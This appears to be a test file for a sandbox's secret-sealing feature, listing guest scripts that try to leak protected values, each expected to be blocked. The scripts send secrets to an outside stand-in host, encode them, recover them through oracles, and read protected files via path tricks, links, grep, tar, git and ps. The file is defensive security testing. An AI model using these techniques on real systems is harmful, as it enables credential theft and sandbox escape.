/**
 * Exfiltration techniques (security.md class 6), one guest script body each. The body
 * runs after the prelude, which holds the local-only values in V (variable), F (file) and
 * H (local-only host answer) and in SECRETS. Every technique is expected to be BLOCKED:
 * the values are sealed, so a transform throws or yields a label, and a flow to a place
 * that is not local-only is refused.
 *
 * `control: true` marks the techniques that must show as LEAK when the same values are
 * NOT local-only (the probe's --control mode): that run proves the detector sees each
 * encoding, so a BLOCKED here means blocked and not merely unnoticed.
 */

import { redactionOracleScript } from "../lib/redaction-oracle.js";

export type GitSetup = "untracked" | "tracked";

export interface Technique {
  name: string;
  /** The item of security.md class 6 (or the extra angle) it exercises. */
  group: string;
  source: string;
  body: string;
  control?: boolean;
  /** false: the script does not read the secrets through builtins first (no redactor help). */
  readSecrets?: boolean;
  /** A git repository in the project: vault/ untracked, or committed. */
  git?: GitSetup;
  /** Extra files/links the project needs. */
  links?: { symlinks?: Record<string, string>; hardlinks?: Record<string, string> };
}

const OWASP_SECRETS = "OWASP Secrets Management Cheat Sheet; security.md class 6";
const ENCODING = "OWASP WSTG (encoding-based filter evasion); security.md class 6";
const COVERT = "Lampson, 'A Note on the Confinement Problem' (1973): storage channels; security.md class 6";
const GTFO = "GTFOBins (file read via allowed binaries)";

export const TECHNIQUES: Technique[] = [
  // ---- direct channels
  {
    name: "print (console.log/info/warn/error, %s)",
    group: "print",
    source: OWASP_SECRETS,
    control: true,
    body: `for (const s of Object.values(SECRETS)) { console.log(s); console.log("%s", s); console.info("v", s); console.warn([s]); console.error({ s }); }`,
  },
  {
    name: "return as the result value",
    group: "return",
    source: OWASP_SECRETS,
    control: true,
    body: `export default { V, F, H, list: [V, F, H], nested: { deep: [{ V }] } };`,
  },
  {
    name: "throw the value uncaught",
    group: "throw",
    source: OWASP_SECRETS,
    control: true,
    body: `throw V;`,
  },
  {
    name: "throw an Error whose message is built from it",
    group: "throw",
    source: OWASP_SECRETS,
    control: true,
    body: `throw new Error("leak: " + V + " " + F + " " + H);`,
  },
  {
    name: "Error fields (message, name, stack, cause) set to it",
    group: "throw",
    source: OWASP_SECRETS,
    control: true,
    body: `const e = new Error("x"); e.message = V; e.name = F; e.stack = H; e.cause = V; throw e;`,
  },
  {
    name: "awaited rejection with it as the reason",
    group: "throw",
    source: OWASP_SECRETS,
    control: true,
    body: `await Promise.reject(F);`,
  },
  {
    name: "error messages of failing builtins",
    group: "error messages",
    source: "CWE-209 (information exposure through an error message)",
    control: true,
    body: `
await each("fs.read(s)", (s) => fs.read(s));
await each("fs.read(out/s)", (s) => fs.read("out/" + s));
await each("fs.write(s)", (s) => fs.write(s, "x"));
await each("fs.exists(s)", (s) => fs.exists(s));
await each("fs.list(s)", (s) => fs.list(s));
await each("env.read(s)", (s) => env.read(s));
await each("net.httpGet(s)", (s) => net.httpGet(s));
await each("net.httpGet(OUT?k=s)", (s) => net.httpGet(OUT + "/?k=" + s));
await each("subprocess.exec([s])", (s) => subprocess.exec([s]));
await each("exec cwd", (s) => subprocess.exec(["ls"], { cwd: s }));
await each("read offset", (s) => fs.read("data/readme.txt", { offset: s }));
await each("header name", (s) => net.httpGet(LOCAL + "/x", { headers: { ["bad name\\n"]: s } }));`,
  },
  {
    name: "error messages of a local-only request that fails",
    group: "error messages",
    source: "CWE-209; security.md class 6",
    body: `
await each("closed port", (s) => net.httpGet(sealed\`http://127.0.0.1:\${CLOSED_PORT}/\${s}\`));
await each("unlisted port", (s) => net.httpGet(sealed\`http://127.0.0.1:9/\${s}\`));
await each("CRLF header", (s) => net.httpGet(LOCAL + "/x", { headers: { "x-a": sealed\`a\\r\\n\${s}\` } }));
await each("ftp scheme", (s) => net.httpGet(sealed\`ftp://127.0.0.1/\${s}\`));
await each("sealed as the whole URL", (s) => net.httpGet(s));
await each("NUL in local-only argv", (s) => subprocess.exec(["printenv", sealed\`\${s}\\0\`]));`,
  },
  {
    name: "audit detail of allowed calls that carry it",
    group: "audit detail",
    source: "OWASP Logging Cheat Sheet (sensitive data in logs)",
    body: `
await each("local-only argv", (s) => subprocess.exec(["printenv", s]));
await each("local-only URL", (s) => net.httpGet(sealed\`\${LOCAL}/a?k=\${s}\`));
await each("local-only body+header", (s) => net.httpPost(LOCAL + "/reflect", s, { headers: { "x-a": s } }));
await each("local-only file write", (s, k) => fs.write("vault/copy-" + k + ".txt", s));
await each("local-only env", (s) => subprocess.exec(["printenv", "X"], { env: { X: s } }));`,
  },
  // ---- encodings
  {
    name: "base64 (offset 0)",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("b64", (s) => b64(s));`,
  },
  {
    name: "base64 at offset 1",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("b64+1", (s) => b64("x" + s));`,
  },
  {
    name: "base64 at offset 2",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("b64+2", (s) => b64("xy" + s));`,
  },
  {
    name: "base64url",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("b64url", (s) => b64("?" + s).replace(/\\+/g, "-").replace(/\\//g, "_"));`,
  },
  {
    name: "hex",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("hex", (s) => hex(s));`,
  },
  {
    name: "reverse",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("reverse", (s) => reverse(s));`,
  },
  {
    name: "XOR with a one-byte key, as hex",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("xor", (s) => codes(s).map((c) => (c ^ 0x5a).toString(16).padStart(2, "0")).join(""));`,
  },
  {
    name: "ROT13",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("rot13", (s) => rotN(s, 13));`,
  },
  {
    name: "ROT-7 of the reversed value",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("rot7rev", (s) => rotN(reverse(s), 7));`,
  },
  {
    name: "char codes",
    group: "encoding",
    source: ENCODING,
    control: true,
    body: `await each("codes", (s) => codes(s).join(","));`,
  },
  {
    name: "per-character chunks across console calls",
    group: "chunking",
    source: COVERT,
    control: true,
    body: `for (const s of Object.values(SECRETS)) { try { for (let i = 0; i < s.length; i++) console.log(s[i]); } catch (e) { note("error", failure(e)); } try { for (let i = 0; i < 64; i++) console.log(String.prototype.charAt.call(s, i)); } catch (e) { note("error", failure(e)); } }`,
  },
  {
    name: "per-character chunks across HTTP requests to the outside host",
    group: "chunking",
    source: COVERT,
    control: true,
    body: `
for (const s of Object.values(SECRETS)) {
  try { for (let i = 0; i < s.length; i++) await net.httpGet(OUT + "/c?c=" + s[i]); } catch (e) { note("error", failure(e)); }
  for (let i = 0; i < 3; i++) { try { await net.httpGet(OUT + "/c?c=" + s.at(i)); } catch (e) { note("error", failure(e)); } }
}`,
  },
  {
    name: "per-character chunks across files",
    group: "chunking",
    source: COVERT,
    control: true,
    body: `
for (const [k, s] of Object.entries(SECRETS)) {
  try { for (let i = 0; i < s.length; i++) await fs.write("out/" + k + "/" + String(i).padStart(3, "0") + ".txt", s[i] + "\\n"); } catch (e) { note("error", failure(e)); }
}
const all = [];
for (const k of Object.keys(SECRETS)) { try { for (const f of await fs.list("out/" + k)) all.push(await fs.read("out/" + k + "/" + f.name)); } catch (e) { note("error", failure(e)); } }
export default all.join("");`,
  },
  {
    name: "interleaving with noise",
    group: "chunking",
    source: COVERT,
    control: true,
    body: `await each("interleave", (s) => chars(s).map((c) => c + "~z").join(""));`,
  },
  {
    name: "compression-like transform (run-length)",
    group: "compression",
    source: "RFC 1951 (DEFLATE) style transforms; security.md class 6",
    control: true,
    body: `await each("rle", (s) => { let out = ""; for (let i = 0; i < s.length;) { let j = i; while (s[j] === s[i]) j++; out += s[i] + (j - i); i = j; } return out; });`,
  },
  // ---- oracles
  {
    name: "length oracle (s.length and friends)",
    group: "oracle",
    source: COVERT,
    body: `
await each("length", (s) => s.length);
await each("spread length", (s) => [...s].length);
await each("Array.from", (s) => Array.from(s).length);
await each("keys", (s) => Object.keys(s).length);`,
  },
  {
    name: "comparison oracle (===, ==, <, >, localeCompare, sort)",
    group: "oracle",
    source: COVERT,
    body: `
await each("===", (s) => s === "guess");
await each("==", (s) => s == "guess");
await each("<", (s) => s < "m");
await each(">=", (s) => s >= "A");
await each("localeCompare", (s) => "m".localeCompare(s));
await each("sort", (s) => ["m", s].sort().indexOf(s));
await each("Set", (s) => new Set(["guess"]).has(s));`,
  },
  {
    name: "prefix oracle recovering the value (startsWith)",
    group: "oracle",
    source: COVERT,
    control: true,
    body: `await each("startsWith", (s) => { let known = ""; for (let i = 0; i < 64; i++) { const c = [...ALPHA].find((x) => String.prototype.startsWith.call(s, known + x)); if (c === undefined) break; known += c; } return known; });`,
  },
  {
    name: "ordering oracle recovering the value (< binary search)",
    group: "oracle",
    source: COVERT,
    control: true,
    body: `await each("binary search", (s) => { const A = [...ALPHA].sort(); let known = ""; for (let i = 0; i < 64; i++) { let best; for (const x of A) if (known + x <= s) best = x; if (best === undefined) break; known += best; if (known === s) break; } return known; });`,
  },
  {
    name: "regex and search oracles (test, match, includes, indexOf)",
    group: "oracle",
    source: COVERT,
    body: `
await each("test", (s) => /^S/.test(s));
await each("match", (s) => String.prototype.match.call(s, /./g));
await each("includes", (s) => String.prototype.includes.call(s, "S"));
await each("indexOf", (s) => [..."ABC"].map((c) => String.prototype.indexOf.call(s, c)));
await each("Symbol.match", (s) => RegExp.prototype[Symbol.match].call(/./g, s));`,
  },
  // ---- coercions
  {
    name: "JSON.stringify",
    group: "coercion",
    source: OWASP_SECRETS,
    control: true,
    body: `await each("JSON", (s) => JSON.stringify({ s })); await each("JSON replacer", (s) => JSON.stringify([s], (k, v) => v));`,
  },
  {
    name: "template literal (plain and custom tag)",
    group: "coercion",
    source: OWASP_SECRETS,
    control: true,
    body: `await each("template", (s) => \`<\${s}>\`); await each("custom tag", (s) => ((strs, ...v) => v.join("|"))\`a\${s}b\`); await each("String.raw", (s) => String.raw\`\${s}\`);`,
  },
  {
    name: "String(s), toString, valueOf, Symbol.toPrimitive",
    group: "coercion",
    source: OWASP_SECRETS,
    control: true,
    body: `await each("String", (s) => String(s)); await each("toString", (s) => s.toString()); await each("valueOf", (s) => s.valueOf()); await each("toPrimitive", (s) => s[Symbol.toPrimitive]("string"));`,
  },
  {
    name: 's + "" and Array.join / concat',
    group: "coercion",
    source: OWASP_SECRETS,
    control: true,
    body: `await each("concat", (s) => s + ""); await each("join", (s) => [s, s].join("|")); await each("String.concat", (s) => "".concat(s));`,
  },
  {
    name: "Object.keys / spread / entries / descriptors of a sealed value",
    group: "coercion",
    source: OWASP_SECRETS,
    body: `
await each("keys", (s) => Object.keys(s));
await each("spread", (s) => ({ ...s }));
await each("array spread", (s) => [...s]);
await each("entries", (s) => Object.entries(s));
await each("names", (s) => Object.getOwnPropertyNames(s));
await each("ownKeys", (s) => Reflect.ownKeys(s).map(String));
await each("descriptors", (s) => Object.getOwnPropertyDescriptors(s));
await each("for-in", (s) => { const k = []; for (const x in s) k.push(x); return k; });
await each("proto names", (s) => Object.getOwnPropertyNames(Object.getPrototypeOf(s)));`,
  },
  {
    name: "tampering with prototypes before coercing",
    group: "coercion",
    source: "PortSwigger: prototype pollution; security.md class 1",
    body: `
const attempts = [
  () => { Object.prototype[Symbol.toPrimitive] = function () { return "poisoned"; }; return String(V); },
  () => { Object.defineProperty(Object.getPrototypeOf(V), "toString", { value: () => "x" }); return String(V); },
  () => { Object.setPrototypeOf(V, String.prototype); return V.slice(0); },
  () => { String.prototype.toString = function () { return this; }; return String.prototype.toString.call(V); },
  () => Function.prototype.toString.call(V),
  () => Reflect.get(Object.getPrototypeOf(V), "toString", V).call(V),
  () => structuredClone(V),
];
await tryAll("tamper", attempts);`,
  },
  // ---- flows to places that are not local-only
  {
    name: "sealed value in the URL path to the outside host",
    group: "flow: network",
    source: "PortSwigger: blind SSRF / out-of-band exfiltration",
    control: true,
    body: `await each("path", (s) => net.httpGet(sealed\`\${OUT}/\${s}\`)); await each("path plain", (s) => net.httpGet(OUT + "/" + s));`,
  },
  {
    name: "sealed value in the query to the outside host",
    group: "flow: network",
    source: "PortSwigger: blind SSRF / out-of-band exfiltration",
    control: true,
    body: `await each("query", (s) => net.httpGet(sealed\`\${OUT}/q?k=\${s}\`)); await each("query plain", (s) => net.httpGet(OUT + "/q?k=" + s));`,
  },
  {
    name: "sealed value in a header to the outside host",
    group: "flow: network",
    source: "PortSwigger: blind SSRF / out-of-band exfiltration",
    control: true,
    body: `await each("header", (s) => net.httpGet(OUT + "/h", { headers: { "x-k": s } })); await each("bearer", (s) => net.httpGet(OUT + "/h", { headers: { authorization: sealed\`Bearer \${s}\` } }));`,
  },
  {
    name: "sealed value in the body to the outside host (POST/PUT/PATCH, nested JSON)",
    group: "flow: network",
    source: "PortSwigger: blind SSRF / out-of-band exfiltration",
    control: true,
    body: `
await each("post", (s) => net.httpPost(OUT + "/b", s));
await each("put", (s) => net.httpPut(OUT + "/b", s));
await each("patch", (s) => net.httpPatch(OUT + "/b", s));
await each("json", (s) => net.httpPost(OUT + "/b", { k: [s] }));`,
  },
  {
    name: "sealed value as the host name (DNS exfiltration)",
    group: "flow: network",
    source: "PortSwigger: DNS-based out-of-band exfiltration",
    body: `await each("dns", (s) => net.httpGet(sealed\`http://\${s}.127.0.0.2.nip.io:80/\`)); await each("userinfo", (s) => net.httpGet(sealed\`http://\${s}@127.0.0.2/\`));`,
  },
  {
    name: "write it to a normal file",
    group: "flow: file",
    source: OWASP_SECRETS,
    control: true,
    body: `await each("write", (s, k) => fs.write("out/" + k + ".txt", s)); await each("write composed", (s, k) => fs.write("out/c-" + k + ".txt", sealed\`x\${s}\`)); await each("write data", (s, k) => fs.write("data/" + k + ".txt", s));`,
  },
  {
    name: "pass it to a normal command in argv",
    group: "flow: command",
    source: GTFO,
    control: true,
    body: `await each("echo", (s) => subprocess.exec(["echo", s])); await each("echo opt", (s) => subprocess.exec(["echo", sealed\`--x=\${s}\`]));`,
  },
  {
    name: "pass it to a normal command in env",
    group: "flow: command",
    source: GTFO,
    body: `await each("env LANG", (s) => subprocess.exec(["echo", "x"], { env: { LANG: s } })); await each("env other", (s) => subprocess.exec(["echo", "x"], { env: { FOO: s } }));`,
  },
  {
    name: "pass it to a normal command on stdin",
    group: "flow: command",
    source: GTFO,
    control: true,
    body: `await each("cat", (s) => subprocess.exec(["cat"], { stdin: s })); await each("base64", (s) => subprocess.exec(["base64"], { stdin: s }));`,
  },
  // ---- local-only sinks that echo
  {
    name: "local-only command that echoes its env (printenv), output re-routed",
    group: "local-only echo",
    source: "security.md class 6 (a local-only command that echoes it)",
    control: true,
    body: `
const all = await subprocess.exec(["printenv"]);
const one = await subprocess.exec(["printenv", "SECRET_VAR"]);
note("stdout", all.stdout, one.stdout, one.code);
await tryAll("reroute", [
  () => String(one.stdout),
  () => net.httpPost(OUT + "/p", one.stdout),
  () => net.httpGet(OUT + "/p", { headers: { "x-k": one.stdout } }),
  () => fs.write("out/printenv.txt", all.stdout),
  () => subprocess.exec(["echo", one.stdout]),
  () => subprocess.exec(["cat"], { stdin: all.stdout }),
]);
export default { all, one, results };`,
  },
  {
    name: "local-only host that reflects the request, answer re-routed",
    group: "local-only echo",
    source: "security.md class 6 (a local-only host that reflects it back)",
    control: true,
    body: `
const answers = [];
for (const s of Object.values(SECRETS)) {
  try { answers.push(await net.httpPost(LOCAL + "/reflect", s, { headers: { "x-a": s } })); } catch (e) { note("error", failure(e)); }
  try { answers.push(await net.httpGet(sealed\`\${LOCAL}/reflect?k=\${s}\`)); } catch (e) { note("error", failure(e)); }
}
for (const r of answers) {
  note("answer", r.status, r.body, r.headers, Object.keys(r.headers));
  await tryAll("reroute", [
    () => String(r.body),
    () => r.json(),
    () => net.httpPost(OUT + "/r", r.body),
    () => net.httpGet(OUT + "/r", { headers: { "x-k": r.headers["x-echo"] ?? r.body } }),
    () => fs.write("out/reflect.txt", r.body),
    () => subprocess.exec(["echo", r.body]),
  ]);
}
export default { answers, results };`,
  },
  {
    name: "JSON answer of a local-only host parsed with r.json()",
    group: "local-only echo",
    source: "security.md class 6",
    control: true,
    body: `
const r = await net.httpGet(LOCAL + "/json");
await tryAll("json", [() => r.json(), () => r.json().token, () => JSON.parse(r.body), () => Object.keys(r.json())]);
export default { results };`,
  },
  {
    name: "local-only host redirects to the outside host with the value",
    group: "local-only echo",
    source: "PortSwigger: SSRF via open redirection",
    body: `await each("redirect", async (s) => { const r = await net.httpGet(sealed\`\${LOCAL}/redirect?k=\${s}\`); return [r.status, r.headers.location]; });`,
  },
  {
    name: "sealed value as the host name under a wildcard local-only entry (the URL parser lower-cases it)",
    group: "local-only echo",
    source: "RFC 3986 section 3.2.2 (the host is case-insensitive); security.md class 6",
    body: `
const port = LOCAL.split(":")[2];
await each("wildcard host", async (s) => net.httpGet(sealed\`http://\${s}.aegis-probe.invalid:\${port}/\`));
await each("wildcard host, https", async (s) => net.httpGet(sealed\`https://x.\${s}.aegis-probe.invalid:\${port}/\`));`,
  },
  {
    name: "sealed write to a local-only file, read back by other routes",
    group: "local-only echo",
    source: OWASP_SECRETS,
    body: `
// Paths built at run time, so the verifier's literal check does not stop the script first.
const at = (...parts) => parts.join("/");
const copy = at("vault", "copy.txt");
await fs.write(copy, sealed\`copy:\${V}\`);
await tryAll("read back", [
  () => fs.read(copy),
  () => fs.read(copy, { offset: 5, length: 4 }),
  () => subprocess.exec(["cat", copy]),
  () => subprocess.exec(["cat", "copy.txt"], { cwd: at("vault") }),
  () => subprocess.exec(["cp", copy, at("out", "copy.txt")]),
  () => subprocess.exec(["cat", at(".", "out", "..", "vault", ".", "copy.txt")]),
  () => fs.list(at("vault")),
]);`,
  },
  {
    name: "byte-range reads of the local-only file",
    group: "chunking",
    source: COVERT,
    body: `const parts = []; for (let i = 0; i < 40; i++) { try { parts.push(await fs.read("vault/secret.txt", { offset: i, length: 1 })); } catch (e) { note("error", failure(e)); } } note("parts", parts); export default parts;`,
  },
  {
    name: "alternative spellings of the local-only path",
    group: "path tricks",
    source: "OWASP Path Traversal; security.md class 3",
    body: `
await tryAll("spelling", [
  () => fs.read(dyn("./vault/secret.txt")),
  () => fs.read(dyn("data/../vault/secret.txt")),
  () => fs.read(dyn("vault//secret.txt")),
  () => fs.read(dyn(ROOT + "/vault/secret.txt")),
  () => fs.read(dyn("/proc/self/cwd/vault/secret.txt")),
  () => fs.read(dyn("VAULT/secret.txt")),
  () => fs.read(dyn("vault/./secret.txt")),
  () => fs.read(dyn("data/vlink/secret.txt")),
  () => fs.read(dyn("data/flink.txt")),
]);`,
    links: { symlinks: { "data/vlink": "../vault", "data/flink.txt": "../vault/secret.txt" } },
  },
  {
    name: "a hard link to the local-only file under a readable name",
    group: "path tricks",
    source: "CWE-62 (UNIX hard link); security.md class 3",
    readSecrets: false,
    body: `await tryAll("hard link", [() => fs.read(dyn("data/hard.txt")), () => subprocess.exec(["cat", dyn("data/hard.txt")]), () => subprocess.exec(["grep", "-h", "S", dyn("data/hard.txt")])]);`,
    links: { hardlinks: { "data/hard.txt": "vault/secret.txt" } },
  },
  {
    name: "sealed tag misuse (direct call, forged strings array)",
    group: "coercion",
    source: "security.md class 1/6",
    body: `
await tryAll("tag", [
  () => sealed(["", ""], V),
  () => sealed(Object.assign(["a", "b"], { raw: ["a", "b"] }), V),
  () => sealed({ raw: ["", ""], length: 2, 0: "", 1: "" }, V),
  () => sealed(["", "", ""], V, F),
  () => { const s = sealed\`\${V}\`; return [s === V, String(s)]; },
  () => sealed.call(null, [""]),
]);`,
  },
  // ---- a normal command reading the local-only file indirectly
  {
    name: "normal command reads the local-only file through a directory argument (grep -r, not read first)",
    group: "indirect read",
    source: GTFO,
    readSecrets: false,
    body: `
await tryAll("dir", [
  () => subprocess.exec(["grep", "-r", "-h", "-o", ".", "."]),
  () => subprocess.exec(["grep", "-r", "-h", "S", "data/.."]),
  () => subprocess.exec(["grep", "-r", "-h", "S", "vault"]),
  () => subprocess.exec(["tar", "-cf", "-", "."]),
]);`,
  },
  {
    name: "normal command reads the local-only file through a directory argument (after a sealed read)",
    group: "indirect read",
    source: GTFO,
    body: `
await tryAll("dir", [
  () => subprocess.exec(["grep", "-r", "-h", "-o", ".", "."]),
  () => subprocess.exec(["grep", "-r", "-h", "S", "."]),
]);`,
  },
  {
    name: "archive or copy the whole tree, then read the copy",
    group: "indirect read",
    source: GTFO,
    readSecrets: false,
    body: `
await tryAll("copy", [
  () => subprocess.exec(["tar", "-cf", "out/all.tar", "."]),
  () => subprocess.exec(["cp", "-r", ".", "out/snap"]),
  () => fs.read("out/snap/vault/secret.txt"),
  () => fs.read("out/all.tar"),
]);`,
  },
  {
    name: "git add -A then git diff --cached (local-only file untracked)",
    group: "indirect read",
    source: "git-scm.com docs (git add, git diff --cached); GTFOBins git",
    readSecrets: false,
    git: "untracked",
    body: `
await tryAll("git", [
  () => subprocess.exec(["git", "add", "-A"]),
  () => subprocess.exec(["git", "diff", "--cached"]),
  () => subprocess.exec(["git", "grep", "--cached", "-h", "S"]),
]);`,
  },
  {
    name: "git show HEAD:path of a committed local-only file",
    group: "indirect read",
    source: "git-scm.com docs (gitrevisions <rev>:<path>)",
    readSecrets: false,
    git: "tracked",
    body: `
await tryAll("git", [
  () => subprocess.exec(["git", "show", "HEAD:vault/secret.txt"]),
  () => subprocess.exec(["git", "log", "-p", "--format=%H"]),
  () => subprocess.exec(["git", "grep", "-h", "S", "HEAD"]),
]);`,
  },
  {
    name: "redaction oracle: byte-range reads register pieces, denial messages show which candidate is redacted",
    group: "oracle",
    source: "Padding-oracle style adaptive chosen-plaintext attack (Vaudenay 2002) applied to the redactor",
    body: `${redactionOracleScript("vault/secret.txt", (v) => `net.httpGet(OUT + "/oracle?v=" + ${v})`)}
export default { recovered: got.length };`,
  },
  {
    name: "normal command prints the aegis process environment (ps e)",
    group: "indirect read",
    source: "procps ps(1) 'e' output modifier; proc(5) /proc/[pid]/environ",
    readSecrets: false,
    body: `await tryAll("ps", [() => subprocess.exec(["ps", "axeww", "-o", "args"])]);`,
  },
  {
    name: "timing side channels",
    group: "timing (out of scope)",
    source: "security.md: timing is not claimed",
    body: `note("timing is out of scope: the guest has no clock finer than Date.now()", typeof Date.now());`,
  },
];
